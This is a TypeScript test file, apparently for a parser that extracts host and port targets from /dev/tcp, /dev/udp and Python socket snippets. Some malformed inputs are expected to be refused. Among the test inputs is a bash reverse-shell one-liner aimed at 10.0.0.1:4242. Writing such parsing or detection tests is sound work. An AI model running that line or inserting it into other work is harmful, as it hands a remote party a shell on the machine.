import { client, type Examples, refuses, server, takes, udp } from './connectionExamples.ts';

const code: Examples = [
  ['/dev/tcp/example.com/80', client('example.com:80')],
  ['/dev/udp/127.0.0.1/53', udp('127.0.0.1:0', { remote: '127.0.0.1:53' })],
  ['exec 3<>/dev/tcp/example.com/80', client('example.com:80')],
  ['exec 3<>/dev/tcp/::1/9000', client('[::1]:9000')],
  ['echo hello > /dev/tcp/localhost/9000', client('localhost:9000')],
  ['cat </dev/tcp/mail.example/smtp', client('mail.example:25')],
  ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', client('10.0.0.1:4242')],
  ["timeout 1 bash -c '</dev/tcp/db/5432' && echo up", client('db:5432')],
  ['(echo > "/dev/tcp/127.0.0.1/22") >/dev/null 2>&1', client('127.0.0.1:22')],
  ['echo -n x >/dev/udp/10.0.0.5/8125', udp('0.0.0.0:0', { remote: '10.0.0.5:8125' })],
  ['("example.com", 80)', client('example.com:80')],
  ["('127.0.0.1', 9000)", client('127.0.0.1:9000')],
  ["('::1', 9000, 0, 0)", client('[::1]:9000')],
  ["s.connect(('localhost', 12345))", client('localhost:12345')],
  ['s = socket.create_connection(("example.com", 80), timeout=5)', client('example.com:80')],
  ["sock.bind(('', 9000))", server(':9000')],
  ['server.bind(("0.0.0.0", 9000))', server('0.0.0.0:9000')],
  ['socket.create_server(("localhost", 9000))', server('localhost:9000')],
  ['sock.sendto(b"hi", ("127.0.0.1", 20001))', udp('127.0.0.1:0', { remote: '127.0.0.1:20001' })],
  ["u = socket(AF_INET, SOCK_DGRAM); u.bind(('', 20001))", udp(':20001')],
  ['example.com 80', client('example.com:80')],
  ['localhost 9000', client('localhost:9000')],
  ['::1\t9000', client('[::1]:9000')],
];

describe('a connection in code', () => {
  takes(code);

  refuses([
    ['/dev/tcp/example.com/daytime', /must be a number/],
    ['exec 3<>/dev/tcp/$host/80', /isn’t a valid host name/],
    ['/dev/udp/host/0', /1 to 65535/],
    ['("host", 70000)', /must be at most 65535/],
  ]);
});
